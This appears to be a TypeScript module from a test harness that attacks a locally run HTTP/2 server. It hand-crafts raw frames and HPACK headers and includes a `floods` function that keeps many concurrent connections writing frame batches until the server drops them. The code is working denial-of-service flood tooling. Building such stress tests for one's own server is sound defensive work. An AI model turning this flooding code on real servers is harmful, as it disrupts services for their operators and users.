// A visitor of HTTP/2 without manners: frames as RFC 9113 has them, written plainly.

import { connect, type Socket } from 'node:net'
import { connect as connectTls, type TLSSocket } from 'node:tls'
import { ATTACKER_ADDRESS, type Tally, type Target } from './attack.ts'
import { closed } from './wait.ts'
import { add, loops } from './wire.ts'

export const DATA = 0
export const HEADERS = 1
export const RST_STREAM = 3
export const SETTINGS = 4
export const PING = 6
export const WINDOW_UPDATE = 8
export const CONTINUATION = 9
export const END_STREAM = 1
export const END_HEADERS = 4
export const ACK = 1

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')

export function frame(
  type: number,
  flags: number,
  stream: number,
  payload: Uint8Array | string = '',
): Buffer {
  const body = Buffer.from(payload as string) // either is fine for Buffer.from
  const head = Buffer.alloc(9)
  head.writeUIntBE(body.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, body])
}

export function u32(value: number): Buffer {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}

/** A field as a literal that enters no table. */
export function literal(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0]), text(name), text(value)])
}

export function text(value: string): Buffer {
  const { length } = value
  return Buffer.from([...(length < 127 ? [length] : [127, ...varint(length - 127)]), ...Buffer.from(value)])
}

/** The rest of an integer of HPACK behind a full prefix. */
function varint(value: number): number[] {
  return value < 128 ? [value] : [(value & 127) | 128, ...varint(value >>> 7)]
}

/** The block of a request to the tunnel of this host. */
export function block(host: string, method: string, path: string): Buffer {
  return Buffer.concat([
    literal(':method', method),
    literal(':scheme', 'https'),
    literal(':path', path),
    literal(':authority', host),
  ])
}

export interface Http2Options {
  /** Entries of SETTINGS, six bytes each. */
  readonly settings?: Uint8Array
  /** Default: what comes is read and forgotten. */
  readonly reads?: boolean
}

/** A connection whose handshake is done. */
export async function openTls(target: Target): Promise<TLSSocket> {
  const { promise, resolve, reject } = Promise.withResolvers<TLSSocket>()
  const plain = connect({ port: target.port, host: '127.0.0.1', localAddress: ATTACKER_ADDRESS })
  const socket = connectTls({ socket: plain, ALPNProtocols: ['h2'], rejectUnauthorized: false }, () =>
    resolve(socket),
  )
  for (const one of [plain, socket]) {
    one.on('error', reject)
    one.on('close', () => reject(new Error('closed')))
  }
  return promise
}

/** A connection that has sent its preface. */
export async function openHttp2(
  target: Target,
  { settings, reads = true }: Http2Options = {},
): Promise<Socket> {
  const socket = await openTls(target)
  if (reads) socket.on('data', () => {})
  socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, settings)]))
  return socket
}

/**
 * `count` connections at a time that write what `batch` gives them, one batch after the other, until the server ends them; then the
 * next. `ended` is how many it ended.
 */
export function floods(
  count: number,
  [target, tally, until]: readonly [Target, Tally, AbortSignal],
  options: Http2Options,
  batch: (stream: number) => { readonly bytes: Buffer; readonly next: number },
  pauseMs = 0,
): Promise<void> {
  return loops(count, until, async () => {
    const socket = await openHttp2(target, options)
    add(tally, 'connections')
    let isOpen = true
    let stream = 1
    const over = closed(socket, until).then(() => {
      isOpen = false
      if (!until.aborted) add(tally, 'ended')
    })
    while (isOpen && !until.aborted) {
      const { bytes, next } = batch(stream)
      stream = next
      add(tally, 'batches')
      if (!socket.write(bytes)) {
        const room = new Promise<void>(resolve => socket.once('drain', () => resolve()))
        await Promise.race([room, over])
      }
      await Bun.sleep(pauseMs)
    }
    socket.destroy()
  })
}
